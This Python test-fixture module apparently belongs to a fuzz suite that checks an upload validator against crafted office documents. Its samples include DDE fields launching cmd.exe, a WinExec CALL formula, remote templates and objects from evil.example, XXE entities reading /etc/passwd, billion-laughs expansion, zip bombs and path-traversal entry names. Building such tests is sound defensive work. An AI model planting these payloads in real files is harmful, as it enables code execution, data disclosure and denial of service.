"""Office documents that run, fetch, hide or unpack without end."""

from __future__ import annotations

import struct
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from concerns.files.refusals import Why
from tests.fuzz.samples import DAY, DOCUMENT, docx, docx_parts, odt_parts, relations, types, xlsx, xlsx_parts, zipped

ACCEPTED = "accepted"
Row = tuple[str, Callable[[], bytes], str]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def word(more: dict[str, bytes | str] | None = None, *, body: str = "", rels: tuple[tuple[str, str, str], ...] = ()) -> bytes:
    """A document with something added."""
    parts = dict(docx_parts())
    if body:
        parts["word/document.xml"] = str(parts["word/document.xml"]).replace("</w:body>", f"{body}</w:body>")
    if rels:
        parts["word/_rels/document.xml.rels"] = relations(*rels)
    return zipped(parts | (more or {}))


def field(instruction: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>'


def excel(more: dict[str, bytes | str] | None = None, *, formula: str = "", rels: tuple[tuple[str, str, str], ...] = ()) -> bytes:
    parts = dict(xlsx_parts())
    if formula:
        parts["xl/worksheets/sheet1.xml"] = str(parts["xl/worksheets/sheet1.xml"]).replace("<f>1+1</f>", f"<f>{formula}</f>")
    if rels:
        parts["xl/_rels/workbook.xml.rels"] = relations((f"{DOCUMENT}/worksheet", "worksheets/sheet1.xml", ""), *rels)
    return zipped(parts | (more or {}))


def open_document(more: dict[str, bytes | str] | None = None, *, body: str = "") -> bytes:
    parts = dict(odt_parts())
    parts["content.xml"] = str(parts["content.xml"]).replace("</office:text>", f"{body}</office:text>")
    return zipped(parts | (more or {}))


def doctype(text: str) -> dict[str, bytes | str]:
    return {"word/document.xml": f'<?xml version="1.0"?>{text}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'}


def declared(kind: str) -> bytes:
    """A document declared as something else."""
    return word({"[Content_Types].xml": types(**{"word/document.xml": kind})})


def overlapping() -> bytes:
    """Many names for the same packed bytes."""
    whole, made = docx(), BytesIO()
    at = whole.rfind(b"PK\x05\x06")
    count, _total, size, start = struct.unpack("<HHII", whole[at + 8 : at + 20])
    first = whole[start:at]
    row = first[: 46 + struct.unpack("<H", first[28:30])[0] + struct.unpack("<H", first[30:32])[0]]
    copies = b"".join(row[:46] + b"x" * (len(row) - 48) + str(n).zfill(2).encode() for n in range(20))
    made.write(whole[:at] + copies)
    made.write(whole[at : at + 8] + struct.pack("<HHII", count + 20, count + 20, size + len(copies), start) + whole[at + 20 :])
    return made.getvalue()


def lying() -> bytes:
    """The directory says ten bytes; it unpacks to fifty megabytes."""
    whole = word({"word/media/big.bin": bytes(50 * 1024 * 1024)})
    at = whole.find(b"word/media/big.bin", whole.rfind(b"word/comments.xml"))
    changed = bytearray(whole)
    changed[at - 22 : at - 18] = struct.pack("<I", 10)
    return bytes(changed)


def locked() -> bytes:
    """Every entry says that it's encrypted."""
    changed = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        while at >= 0:
            changed[at + place] |= 1
            at = changed.find(mark, at + 4)
    return bytes(changed)


def linked() -> bytes:
    """An entry that is a link to somewhere else on the machine."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(ZipInfo(name, DAY), content)
        entry = ZipInfo("word/link.xml", DAY)
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return made.getvalue()


def twice() -> bytes:
    """Two parts of the same name: which one is read depends on who reads."""
    made = BytesIO()
    with ZipFile(made, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(ZipInfo(name, DAY), content)
        archive.writestr(ZipInfo("WORD/document.xml", DAY), "<x/>")
    return made.getvalue()


def packed(kind: int) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", compression=kind) as archive:
        for name, content in docx_parts().items():
            entry = ZipInfo(name, DAY)
            entry.compress_type = kind
            archive.writestr(entry, content)
    return made.getvalue()


def nested(depth: int) -> bytes:
    inside = b"words"
    for _level in range(depth):
        inside = zipped({"x.zip": inside})
    return inside


def rows() -> dict[str, Row]:
    """By title: name, bytes, wanted."""
    million = b"A" * (12 * 1024 * 1024)
    found: dict[str, Row] = {
        # too much inside
        "bomb: one part of forty-one megabytes": ("b.docx", lambda: word({"word/x.xml": b"<x>" + bytes(41 * 1024 * 1024)}), Why.TOO_MUCH_INSIDE),
        "bomb: too steep": ("b.docx", lambda: word({"word/x.xml": million}), Why.TOO_MUCH_INSIDE),
        "bomb: many parts": ("b.xlsx", lambda: excel({f"xl/{n}.xml": "<x/>" for n in range(2_001)}), Why.TOO_MUCH_INSIDE),
        "bomb: together too large": ("b.odt", lambda: open_document({f"Pictures/{n}.bin": bytes(1024 * 1024) for n in range(81)}), Why.TOO_MUCH_INSIDE),
        "bomb: parts that share their bytes": ("b.docx", overlapping, Why.TOO_MUCH_INSIDE),
        "bomb: a directory that lies": ("b.docx", lying, Why.DAMAGED),
        # other files inside
        "a zip inside": ("b.docx", lambda: word({"word/media/x.zip": nested(1)}), Why.HOLDS_FILES),
        "zips five deep under a quiet name": ("b.docx", lambda: word({"word/media/image2.jpeg": nested(5)}), Why.HOLDS_FILES),
        "a RAR inside": ("b.odt", lambda: open_document({"Pictures/x.png": b"Rar!\x1a\x07\x00" + bytes(50)}), Why.HOLDS_FILES),
        "7z inside": ("b.xlsx", lambda: excel({"xl/media/x": b"7z\xbc\xaf\x27\x1c" + bytes(50)}), Why.HOLDS_FILES),
        "gzip inside": ("b.docx", lambda: word({"word/media/x.emz": b"\x1f\x8b\x08" + bytes(50)}), Why.HOLDS_FILES),
        "a program inside": ("b.docx", lambda: word({"word/media/x.png": b"MZ" + bytes(100)}), Why.ACTIVE),
        "a program for another system inside": ("b.odt", lambda: open_document({"Pictures/x.png": b"\x7fELF" + bytes(100)}), Why.ACTIVE),
        "a script file inside": ("b.docx", lambda: word({"word/x.js": "alert(1)"}), Why.HOLDS_FILES),
        "a shortcut inside": ("b.docx", lambda: word({"word/x.bin": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(50)}), Why.ACTIVE),
        "an embedded object": ("b.docx", lambda: word({"word/embeddings/oleObject1.bin": OLE}), Why.HOLDS_FILES),
        "an embedded workbook": ("b.docx", lambda: word({"word/embeddings/Book1.xlsx": xlsx()}), Why.HOLDS_FILES),
        "an old document inside": ("b.docx", lambda: word({"word/media/x.doc": OLE}), Why.HOLDS_FILES),
        "an object in OpenDocument": ("b.odt", lambda: open_document({"Object 1/content.xml": "<x/>"}), Why.HOLDS_FILES),
        "a picture with a script": ("b.docx", lambda: word({"word/media/x.svg": "<svg xmlns='x'><script>alert(1)</script></svg>"}), Why.ACTIVE),
        "a picture that acts when it loads": ("b.odt", lambda: open_document({"Pictures/x.svg": "<svg onload='alert(1)'/>"}), Why.ACTIVE),
        "a page with a script": ("b.docx", lambda: word({"word/x.htm": "<html><script>1</script></html>"}), Why.ACTIVE),
        # programs
        "macros": ("b.docx", lambda: word({"word/vbaProject.bin": OLE}), Why.ACTIVE),
        "macros under another case": ("b.docx", lambda: word({"word/VBAPROJECT.BIN": b"x"}), Why.ACTIVE),
        "data of macros": ("b.docx", lambda: word({"word/vbaData.xml": "<x/>"}), Why.ACTIVE),
        "macros in a sheet": ("b.xlsx", lambda: excel({"xl/vbaProject.bin": OLE}), Why.ACTIVE),
        "declared as a macro document": ("b.docx", lambda: declared("application/vnd.ms-word.document.macroEnabled.main+xml"), Why.ACTIVE),
        "declared as a macro template": ("b.docx", lambda: declared("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"), Why.ACTIVE),
        "declared as a sheet": ("b.docx", lambda: declared("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), Why.NOT_WHAT_IT_SAYS),
        "a control": ("b.docx", lambda: word({"word/activeX/activeX1.xml": "<x/>"}), Why.ACTIVE),
        "a ribbon of its own": ("b.xlsx", lambda: excel({"customUI/customUI.xml": "<x/>"}), Why.ACTIVE),
        "Basic": ("b.odt", lambda: open_document({"Basic/Standard/Module1.xml": "<x/>"}), Why.ACTIVE),
        "Python": ("b.odt", lambda: open_document({"Scripts/python/x.py": "import os"}), Why.ACTIVE),
        "an event that calls": ("b.odt", lambda: open_document(body='<text:p><script:event-listener script:event-name="dom:load"/></text:p>'), Why.ACTIVE),
        "a link to a macro": ("b.odt", lambda: open_document(body='<text:p><text:a xlink:href="vnd.sun.star.script:x?language=Basic"/></text:p>'), Why.ACTIVE),
        "a DDE field": ("b.docx", lambda: word(body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")), Why.ACTIVE),
        "a DDE field in two runs": ("b.docx", lambda: word(body=field("DDE") .replace("DDE<", "DD</w:instrText></w:r><w:r><w:instrText>E x<")), Why.ACTIVE),
        "a DDE field, simple": ("b.docx", lambda: word(body='<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'), Why.ACTIVE),
        "a button for a macro": ("b.docx", lambda: word(body=field("MACROBUTTON AutoOpen x")), Why.ACTIVE),
        "a DDE cell": ("b.xlsx", lambda: excel(formula="cmd|'/C calc'!A0"), Why.ACTIVE),
        "a cell that calls": ("b.xlsx", lambda: excel(formula='CALL(&quot;kernel32&quot;,&quot;WinExec&quot;)'), Why.ACTIVE),
        "a DDE link": ("b.xlsx", lambda: excel({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), Why.ACTIVE),
        "a link of script": ("b.docx", lambda: word(rels=((f"{DOCUMENT}/hyperlink", "javascript:alert(1)", "External"),)), Why.ACTIVE),
        "a link to a file": ("b.docx", lambda: word(rels=((f"{DOCUMENT}/hyperlink", "file://server/share/x.exe", "External"),)), Why.ACTIVE),
        # from somewhere else
        "a template from elsewhere": ("b.docx", lambda: word({"word/_rels/settings.xml.rels": relations((f"{DOCUMENT}/attachedTemplate", "http://evil.example/t.dotm", "External"))}), Why.FETCHES),
        "a picture from elsewhere": ("b.docx", lambda: word(rels=((f"{DOCUMENT}/image", "http://evil.example/x.png", "External"),)), Why.FETCHES),
        "an object from elsewhere": ("b.docx", lambda: word(rels=((f"{DOCUMENT}/oleObject", "http://evil.example/x", "External"),)), Why.FETCHES),
        "a frame from elsewhere": ("b.docx", lambda: word(rels=((f"{DOCUMENT}/frame", "http://evil.example/x", "External"),)), Why.FETCHES),
        "a workbook from elsewhere": ("b.xlsx", lambda: excel({"xl/externalLinks/_rels/externalLink1.xml.rels": relations((f"{DOCUMENT}/externalLinkPath", "http://evil.example/x.xlsx", "External"))}), Why.FETCHES),
        "a cell that asks": ("b.xlsx", lambda: excel(formula='WEBSERVICE(&quot;http://evil.example&quot;)'), Why.FETCHES),
        "text from elsewhere": ("b.docx", lambda: word(body=field("INCLUDETEXT &quot;http://evil.example/x&quot;")), Why.FETCHES),
        "a picture by a field": ("b.docx", lambda: word(body=field("INCLUDEPICTURE &quot;http://evil.example/x&quot;")), Why.FETCHES),
        "a picture from elsewhere in OpenDocument": ("b.odt", lambda: open_document(body='<text:p><draw:image xlink:href="https://evil.example/x.png"/></text:p>'), Why.FETCHES),
        "a file of the machine in OpenDocument": ("b.odt", lambda: open_document(body='<text:p><draw:image xlink:href="file:///etc/passwd"/></text:p>'), Why.FETCHES),
        "a link, and no more": ("b.odt", lambda: open_document(body='<text:p><text:a xlink:href="https://www.example.gov.uk/">x</text:a></text:p>'), ACCEPTED),
        # XML
        "an entity of the machine": ("b.docx", lambda: word(doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')), Why.FETCHES),
        "an entity from elsewhere": ("b.docx", lambda: word(doctype('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;]>')), Why.FETCHES),
        "a thousand million laughs": ("b.docx", lambda: word(doctype("<!DOCTYPE x [" + '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>")), Why.FETCHES),
        "a document type in the relations": ("b.docx", lambda: word({"_rels/.rels": "<!DOCTYPE x>" + relations().partition("?>")[2]}), Why.FETCHES),
        "a document type in a sheet": ("b.xlsx", lambda: excel({"xl/x.xml": '<!DOCTYPE x SYSTEM "http://evil.example/"><x/>'}), Why.FETCHES),
        "a document type in OpenDocument": ("b.odt", lambda: open_document({"styles.xml": "<!DOCTYPE x><x/>"}), Why.FETCHES),
        "a document type in sixteen bits": ("b.docx", lambda: word({"word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")}), Why.FETCHES),
        "XML that isn't sound": ("b.docx", lambda: word({"word/x.xml": "<x><y></x>"}), Why.DAMAGED),
        "XML in an unknown script": ("b.docx", lambda: word({"word/x.xml": b"<x>caf\xe9</x>"}), Why.DAMAGED),
        "XML ten thousand deep": ("b.docx", lambda: word({"word/x.xml": "<x>" * 10_000 + "</x>" * 10_000}), Why.DAMAGED),
        "no bytes for a part": ("b.docx", lambda: word({"word/document.xml": b""}), Why.DAMAGED),
        # the archive
        "a way up": ("b.docx", lambda: word({"../../etc/cron.d/x": "x"}), Why.DAMAGED),
        "a way up, backwards": ("b.docx", lambda: word({"..\\..\\x": "x"}), Why.DAMAGED),
        "from the root": ("b.odt", lambda: open_document({"/etc/passwd": "x"}), Why.DAMAGED),
        "from a drive": ("b.xlsx", lambda: excel({"C:/x": "x"}), Why.DAMAGED),
        "a part whose name turns around": ("b.docx", lambda: word({"word/\u202efdp.exe.xml": "<x/>"}), Why.DAMAGED),
        "a part that is a link": ("b.docx", linked, Why.DAMAGED),
        "two parts of one name": ("b.docx", twice, Why.DAMAGED),
        "packed in an old way": ("b.docx", lambda: packed(12), Why.DAMAGED),
        "packed in another way": ("b.docx", lambda: packed(14), Why.DAMAGED),
        "a password on the archive": ("b.docx", locked, Why.PASSWORD),
        "a password by the program": ("b.docx", lambda: OLE, Why.PASSWORD),
        "a password in OpenDocument": ("b.odt", lambda: open_document({"META-INF/manifest.xml": "<x><encryption-data/></x>"}), Why.PASSWORD),
        "an archive of nothing": ("b.docx", lambda: b"PK\x05\x06" + bytes(18), Why.NOT_WHAT_IT_SAYS),
        "an archive of something else": ("b.docx", lambda: zipped({"x.txt": "x"}), Why.NOT_WHAT_IT_SAYS),
        "no main part": ("b.xlsx", lambda: zipped({name: part for name, part in xlsx_parts().items() if name != "xl/workbook.xml"}), Why.NOT_WHAT_IT_SAYS),
        "OpenDocument whose kind comes last": ("b.odt", lambda: zipped({**{n: p for n, p in odt_parts().items() if n != "mimetype"}, "mimetype": odt_parts()["mimetype"]}), Why.NOT_WHAT_IT_SAYS),
        "an OpenDocument sheet": ("b.odt", lambda: zipped({**odt_parts(), "mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), Why.NOT_WHAT_IT_SAYS),
        "stored without packing": ("b.docx", lambda: packed(ZIP_STORED), ACCEPTED),
        "packed as usual": ("b.docx", lambda: packed(ZIP_DEFLATED), ACCEPTED),
        "instructions to programs in XML": ("b.docx", lambda: word({"word/x.xml": '<?mso-application progid="Word.Document"?><x/>'}), ACCEPTED),
    }  # fmt: skip
    return found
